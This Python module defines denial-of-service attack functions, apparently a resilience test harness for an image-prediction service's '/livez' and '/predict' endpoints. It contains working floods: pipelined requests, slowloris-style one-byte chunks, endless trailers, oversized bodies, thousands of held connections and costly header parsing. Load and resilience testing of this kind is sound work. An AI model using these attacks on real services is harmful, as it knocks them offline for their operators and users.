"""Denial of service: what one client sends for as long as an attack lasts.

An attack is a function `(target, until)` that sends until that moment of `time.monotonic()`. It runs in a process of
its own, so it has to be a module-level function of an importable module.
"""

from __future__ import annotations

import resource
import socket
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field

CONNECT_TIMEOUT_S = 30.0
PAUSE_S = 0.01
# More than MAX_CONNECTIONS.
HELD_CONNECTIONS = 5000
CHUNKED = ("Content-Type: image/jpeg", "Transfer-Encoding: chunked")


@dataclass(frozen=True)
class Target:
    """The service under attack, and the headers of an attacker who has a key."""

    host: str
    port: int
    headers: Mapping[str, str] = field(default_factory=dict)

    def head(self, line: str, *headers: str) -> bytes:
        """Return the head of a request."""
        own = [f"{name}: {value}" for name, value in self.headers.items()]
        return "\r\n".join([line, "Host: localhost", *own, *headers, "", ""]).encode()

    @contextmanager
    def connection(self, until: float) -> Iterator[socket.socket]:
        """Open a connection whose calls end when the attack does, and discard all responses."""
        with socket.create_connection((self.host, self.port), timeout=CONNECT_TIMEOUT_S) as connection:
            connection.settimeout(max(until - time.monotonic(), 0.01))
            reader = threading.Thread(target=_read_all, args=(connection,), daemon=True)
            reader.start()
            try:
                yield connection
            finally:
                with suppress(OSError):
                    connection.shutdown(socket.SHUT_RDWR)
                reader.join()


Attack = Callable[[Target, float], None]


def repeat(until: float, step: Callable[[], None], connections: int = 1) -> None:
    """Run `step` again and again, on so many threads; a connection that the service ends is no fault of the step."""
    threads = [threading.Thread(target=_repeat, args=(until, step), daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _repeat(until: float, step: Callable[[], None]) -> None:
    while time.monotonic() < until:
        with suppress(OSError):
            step()
        time.sleep(PAUSE_S)


def _read_all(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(262_144):
            pass


def _send_on(target: Target, until: float, begin: bytes, piece: bytes, connections: int = 1) -> None:
    """Send the beginning of a request and then one piece after the other until the connection or the attack ends."""

    def step() -> None:
        with target.connection(until) as connection:
            connection.sendall(begin)
            while time.monotonic() < until:
                connection.sendall(piece)

    repeat(until, step, connections)


def pipelined_requests(target: Target, until: float) -> None:
    """Send requests without waiting for answers."""
    request = target.head("GET /livez HTTP/1.1")
    _send_on(target, until, b"", request * 500)


def pipelined_requests_on_many_connections(target: Target, until: float) -> None:
    """Send requests without waiting for answers, sixteen times over."""
    request = target.head("GET /livez HTTP/1.1")
    _send_on(target, until, b"", request * 500, connections=16)


def pipelined_unread_bodies(target: Target, until: float) -> None:
    """Send requests whose bodies are never read, without waiting for answers."""
    request = target.head("POST /livez HTTP/1.1", "Content-Length: 60000") + bytes(60_000)
    _send_on(target, until, b"", request * 10)


def pipelined_pages(target: Target, until: float) -> None:
    """Ask for the page, the most expensive answer that needs no image, without waiting for it."""
    _send_on(target, until, b"", target.head("GET / HTTP/1.1") * 200, connections=4)


def one_byte_chunks(target: Target, until: float) -> None:
    """Send an image in chunks of one byte each."""
    begin = target.head("POST /predict HTTP/1.1", *CHUNKED) + b"3\r\n\xff\xd8\xff\r\n"
    _send_on(target, until, begin, b"1\r\nx\r\n" * 100_000)


def one_byte_chunks_on_many_connections(target: Target, until: float) -> None:
    """Send an image in chunks of one byte each, sixteen times over."""
    begin = target.head("POST /predict HTTP/1.1", *CHUNKED) + b"3\r\n\xff\xd8\xff\r\n"
    _send_on(target, until, begin, b"1\r\nx\r\n" * 10_000, connections=16)


def chunk_extensions(target: Target, until: float) -> None:
    """Send chunks of one byte, each with 8 KB of extensions."""
    piece = b"1" + b";a=b" * 2000 + b"\r\nx\r\n"
    _send_on(target, until, target.head("POST /predict HTTP/1.1", *CHUNKED), piece * 10, connections=8)


def endless_trailers(target: Target, until: float) -> None:
    """End a body, and send trailer fields without an end, in many small packets."""
    begin = target.head("POST /predict HTTP/1.1", *CHUNKED) + b"3\r\n\xff\xd8\xff\r\n0\r\n" + b"X: y\r\n" * 50_000
    _send_small(target, until, begin, b"X: y\r\n")


def heads_in_small_packets(target: Target, until: float) -> None:
    """Send the larger part of a long head in one packet, and the rest in many small packets."""
    begin = b"GET /livez HTTP/1.1\r\n" + b"".join(b"X-%d: %s\r\n" % (number, b"x" * 8000) for number in range(90))
    _send_small(target, until, begin, b"y")


def bodies_in_small_packets(target: Target, until: float) -> None:
    """Send a body in packets of a few bytes, as fast as they leave."""
    begin = target.head("POST /predict HTTP/1.1", "Content-Type: image/jpeg", "Content-Length: 20000000")
    _send_small(target, until, begin, b"xx")


def bodies_after_the_answer(target: Target, until: float) -> None:
    """Continue to send a body that was refused for its length."""
    begin = target.head("POST /predict HTTP/1.1", "Content-Type: image/jpeg", "Content-Length: 10000000000")
    _send_on(target, until, begin, bytes(1_000_000), connections=4)


def held_connections(target: Target, until: float) -> None:
    """Hold more connections than the service does, without a request on any of them."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held: list[socket.socket] = []

    def step() -> None:
        for _ in range(100 if len(held) < HELD_CONNECTIONS else 1):
            held.append(socket.create_connection((target.host, target.port), timeout=1.0))

    repeat(until, step)


def expensive_forms(target: Target, until: float) -> None:
    """Send forms whose part headers take as long to parse as headers can, on 32 connections."""
    part = b'--limit\r\nContent-Disposition: form-data; name="x"' + b";a=b" * 1900 + b"\r\n\r\nx\r\n"
    body = part * 16 + b"--limit--\r\n"
    head = target.head(
        "POST /predict HTTP/1.1", "Content-Type: multipart/form-data; boundary=limit", f"Content-Length: {len(body)}"
    )
    _send_on(target, until, b"", head + body, connections=32)


def expensive_heads(target: Target, until: float) -> None:
    """Send headers that take as long to parse as headers can, on 32 connections."""
    cookies = ["Cookie: " + "a=b; " * 1500] * 3
    _send_on(target, until, b"", target.head("GET / HTTP/1.1", *cookies), connections=32)


def _send_small(target: Target, until: float, begin: bytes, piece: bytes) -> None:
    """Send the beginning on eight connections, and then a small packet on each in turn."""

    def step() -> None:
        with target.connection(until) as connection:
            connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            connection.sendall(begin)
            while time.monotonic() < until:
                connection.send(piece)
                time.sleep(0.0001)

    repeat(until, step, connections=8)
